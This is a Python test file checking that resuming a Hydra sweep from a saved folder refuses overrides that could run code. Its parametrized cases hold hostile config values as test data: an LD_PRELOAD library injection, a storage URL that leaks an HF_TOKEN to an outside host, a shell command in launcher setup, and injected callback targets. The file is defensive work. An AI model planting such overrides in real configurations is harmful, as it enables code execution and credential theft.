"""A sweep's folder is taken up again by its recorded command, unless that could run code: the folder may be anybody's."""

from pathlib import Path

import pytest
from omegaconf import OmegaConf

from raylight.config.resume import resumed_arguments
from raylight.errors import ConfigError


def sweep(folder: Path, *command: str) -> Path:
    overrides = {
        "hydra": [word for word in command if "hydra" in word],
        "task": [w for w in command if "hydra" not in w],
    }
    OmegaConf.save(OmegaConf.create({"hydra": {"overrides": overrides}}), folder / "multirun.yaml")
    return folder


def test_a_sweep_goes_on_by_its_own_command(tmp_path: Path) -> None:
    command = (
        "hydra/sweeper=optuna",
        "hydra.sweeper.n_trials=9",
        "hydra.sweeper.params.seed='1,2'",
        "model=cnn2",
        "+notes=x",
    )
    found = resumed_arguments([f"resume={sweep(tmp_path, 'hydra.mode=MULTIRUN', *command)}"])
    assert found == ["-m", *command, f"resume='{tmp_path}'", f"hydra.sweep.dir='{tmp_path}'"]


@pytest.mark.parametrize(
    "word",
    [
        "+hydra.callbacks.x={_target_: mine.Callback}",
        "hydra.sweeper._target_=mine.run",
        "++hydra.launcher.setup=[touch proof]",
        "hydra.launcher={_target_: mine.run}",
        "hydra.job.env_set.LD_PRELOAD=evil.so",
        "hydra.sweeper.storage=https://elsewhere/${oc.env:HF_TOKEN}",
        "hydra/job_logging=mine",
        "allowed_targets=[mine]",
        "++allowed_targets=[mine]",
    ],
)
def test_what_could_run_code_is_left_to_the_command_line(word: str, tmp_path: Path) -> None:
    sweep(tmp_path, "model=cnn2", word)
    with pytest.raises(
        ConfigError, match="which could run code; if the sweep is yours, give its whole command once more"
    ):
        resumed_arguments([f"resume={tmp_path}"])
    assert word in resumed_arguments(["-m", "model=cnn2", word, f"resume={tmp_path}"])
